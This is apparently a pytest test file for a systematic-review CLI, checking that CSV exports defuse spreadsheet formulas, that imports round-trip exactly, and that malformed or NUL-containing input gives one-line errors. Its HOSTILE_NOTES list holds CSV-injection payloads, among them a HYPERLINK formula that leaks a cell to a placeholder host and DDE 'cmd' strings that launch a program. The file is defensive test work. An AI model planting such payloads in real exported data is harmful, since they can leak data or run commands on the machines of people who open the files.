"""CSV exports a spreadsheet cannot run, strict ``screen import``, one-line errors (issue #11).

On SQLite and PostgreSQL: what is stored must not depend on the database (a NUL byte).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from realreview import services
from realreview.cli import app
from realreview.tables import csv_text

ANA = "ana@example.org"
HOSTILE_NOTES = [
    '=HYPERLINK("http://example.org/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "-3",
    "-",
]


@pytest.fixture
def run(database_url: str, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("REALREVIEW_DATABASE_URL", database_url)
    monkeypatch.setenv("REALREVIEW_USER", "admin")
    for name in ("REALREVIEW_REVIEW", "REALREVIEW_PASSWORD", "REALREVIEW_TRACEBACK"):
        monkeypatch.delenv(name, raising=False)
    runner = CliRunner()

    def invoke(*args: str):  # type: ignore[no-untyped-def]
        return runner.invoke(app, list(args), catch_exceptions=False)

    invoke("init", "T")
    return invoke


def _ris(titles: list[str]) -> str:
    return "".join(f"TY  - JOUR\nTI  - {title}\nAU  - Doe, Jane\nPY  - 2020\nER  - \n" for title in titles)


def _with_records(run, tmp_path: Path, count: int) -> None:  # type: ignore[no-untyped-def]
    file = tmp_path / "records.ris"
    file.write_text(_ris([f"Record {n}" for n in range(1, count + 1)]), encoding="utf-8")
    assert run("import", str(file)).exit_code == 0


def _decisions(notes: list[str]) -> str:
    """A decisions file as RealReview writes it (``screen import`` always takes a defusing ' off)."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["record_id", "stage", "reviewer", "event", "note", "at"])
    for number, note in enumerate(notes, 1):
        at = f"2026-01-01T00:00:0{number}+00:00"
        writer.writerow([number, "title_abstract", ANA, "include", csv_text(note), at])
    return out.getvalue()


def test_screen_export_defuses_formulas_and_screen_import_reads_it_back_exactly(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _with_records(run, tmp_path, len(HOSTILE_NOTES))
    run("members", "add", ANA, "--role", "reviewer")
    source = tmp_path / "hostile.csv"
    source.write_text(_decisions(HOSTILE_NOTES), encoding="utf-8")
    assert run("screen", "import", str(source)).output == f"7 decisions imported from {source}.\n"

    exported = run("screen", "export").output
    notes = [row["note"] for row in csv.DictReader(io.StringIO(exported))]
    assert notes == [
        '\'=HYPERLINK("http://example.org/?leak="&A1,"Click me")',
        "'+cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "''=already quoted",
        "-3",  # a number cannot run; it stays a number
        "'-",
    ]
    raw = run("screen", "export", "--raw").output
    assert [row["note"] for row in csv.DictReader(io.StringIO(raw))] == HOSTILE_NOTES

    # The defused file reads back to the very values stored: importing it adds nothing ...
    again = tmp_path / "exported.csv"
    again.write_text(exported, encoding="utf-8")
    assert run("screen", "import", str(again)).output == f"0 decisions imported from {again}.\n"
    # ... and the rows it yields are the originals.
    found = services.read_decisions_csv(exported)
    assert [row["note"] for _line, row in found.rows] == HOSTILE_NOTES


def test_records_csv_defuses_formulas_and_imports_back_exactly(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    file = tmp_path / "hostile.ris"
    file.write_text(_ris(HOSTILE_NOTES[:5]), encoding="utf-8")
    run("import", str(file))
    exported = tmp_path / "out.csv"
    assert run("export", "--format", "csv", "-o", str(exported)).exit_code == 0
    titles = [row["title"] for row in csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8")))]
    assert all(title.startswith("'") for title in titles)
    raw = run("export", "--format", "csv", "--raw").output
    assert [row["title"] for row in csv.DictReader(io.StringIO(raw))] == HOSTILE_NOTES[:5]
    listed = run("records", "--format", "csv").output
    assert [row["title"] for row in csv.DictReader(io.StringIO(listed))] == titles
    listed_raw = run("records", "--format", "csv", "--raw").output
    assert [row["title"] for row in csv.DictReader(io.StringIO(listed_raw))] == HOSTILE_NOTES[:5]

    assert run("import", str(exported)).exit_code == 0
    stored = json.loads(run("records", "--format", "json", "--search", "2").output)
    assert [item["title"] for item in stored] == HOSTILE_NOTES[:5]


def test_an_unterminated_quote_names_its_line(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _with_records(run, tmp_path, 3)
    run("members", "add", ANA, "--role", "reviewer")
    file = tmp_path / "quote.csv"
    file.write_text(
        "record_id,stage,reviewer,event,note\n"
        f"1,title_abstract,{ANA},include,fine\n"
        f'2,title_abstract,{ANA},include,"never closed\n'
        f"3,title_abstract,{ANA},include,swallowed\n",
        encoding="utf-8",
    )
    result = run("screen", "import", str(file))
    assert (result.exit_code, result.output) == (
        1,
        f"Error: {file}: line 3: unterminated quote (a quoted field starts on this line and never closes)\n",
    )
    assert run("screen", "export").output.count("\n") == 1  # nothing stored


def test_a_quote_that_runs_into_a_later_line_names_where_it_started(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    file = tmp_path / "runs-on.csv"
    file.write_text(
        "record_id,stage,reviewer,event,note\n"
        f'1,title_abstract,{ANA},include,"opened\n'
        f'2,title_abstract,{ANA},include,"closed" here\n',
        encoding="utf-8",
    )
    result = run("screen", "import", str(file))
    assert result.exit_code == 1
    assert result.output.startswith(
        f"Error: {file}: line 2: a quoted field starting on this line runs on to line 3"
    )


def test_a_short_line_names_itself(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    file = tmp_path / "short.csv"
    file.write_text(
        f"record_id,stage,reviewer,event,note\n1,title_abstract,{ANA},include,\n2,ta\n", encoding="utf-8"
    )
    result = run("screen", "import", str(file))
    assert (result.exit_code, result.output) == (
        1,
        f"Error: {file}: line 3: 2 field(s) where the header has 5 (a short line)\n",
    )


def test_undecodable_bytes_name_their_line(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    file = tmp_path / "latin1.csv"
    file.write_bytes(
        b"record_id,stage,reviewer,event,note\n1,title_abstract,a@b.org,include,ok\n2,ta,a,include,caf\xe9\n"
    )
    result = run("screen", "import", str(file))
    assert (result.exit_code, result.output) == (
        1,
        f"Error: {file}: line 3: not valid UTF-8 text (byte 0xe9); save the file as UTF-8\n",
    )


def test_control_characters_in_a_decisions_file_are_removed_with_a_note(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    _with_records(run, tmp_path, 1)
    run("members", "add", ANA, "--role", "reviewer")
    file = tmp_path / "nul.csv"
    file.write_text(_decisions(["a NUL\x00 here"]), encoding="utf-8")
    result = run("screen", "import", str(file))
    assert result.exit_code == 0
    assert f"{file}: line 2: removed control character(s) U+0000 from note\n" in result.output
    exported = run("screen", "export").output
    assert [row["note"] for row in csv.DictReader(io.StringIO(exported))] == ["a NUL here"]


def test_a_nul_byte_late_in_an_export_is_removed_the_same_on_both_databases(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    titles = [f"Record {n} with a title long enough to pass the first 64 KiB" for n in range(1, 1200)]
    titles.append("Late\x00 NUL")
    file = tmp_path / "late-nul.ris"
    file.write_text(_ris(titles), encoding="utf-8")
    assert file.stat().st_size > 64 * 1024
    result = run("import", str(file))
    assert result.exit_code == 0, result.output
    assert "note: record 1200 (line 5996): removed control character(s) U+0000" in result.output
    stored = json.loads(run("records", "--format", "json").output)[-1]
    assert stored["title"] == "Late NUL"
    assert ["TI", "Late NUL"] in stored["raw"]


def test_an_unexpected_error_is_one_line_without_a_traceback(run, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    def broken(*_args: object, **_kwargs: object) -> int:
        raise RuntimeError("boom\nsecond line of detail")

    monkeypatch.setattr(services, "count_records", broken)
    result = run("records", "--count")
    assert (result.exit_code, result.output) == (
        1,
        "Error: unexpected RuntimeError: boom (a bug; set REALREVIEW_TRACEBACK=1 to see the traceback)\n",
    )
    monkeypatch.setenv("REALREVIEW_TRACEBACK", "1")
    with pytest.raises(RuntimeError, match="boom"):
        run("records", "--count")


def test_a_query_file_with_a_nul_byte_is_logged_without_it(run, tmp_path) -> None:  # type: ignore[no-untyped-def]
    query = tmp_path / "query.txt"
    query.write_text("(asthma\x00 OR wheeze)\n", encoding="utf-8")
    result = run("search", "add", "--database", "MEDLINE", "--query-file", str(query))
    assert (
        result.output
        == "Note: removed control character(s) U+0000 from the query\nLogged search 1: MEDLINE\n"
    )
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"line one\n(caf\xe9)\n")
    result = run("search", "add", "--database", "MEDLINE", "--query-file", str(bad))
    assert (result.exit_code, result.output) == (
        1,
        f"Error: {bad}: line 2: not valid UTF-8 text (byte 0xe9); save the file as UTF-8\n",
    )
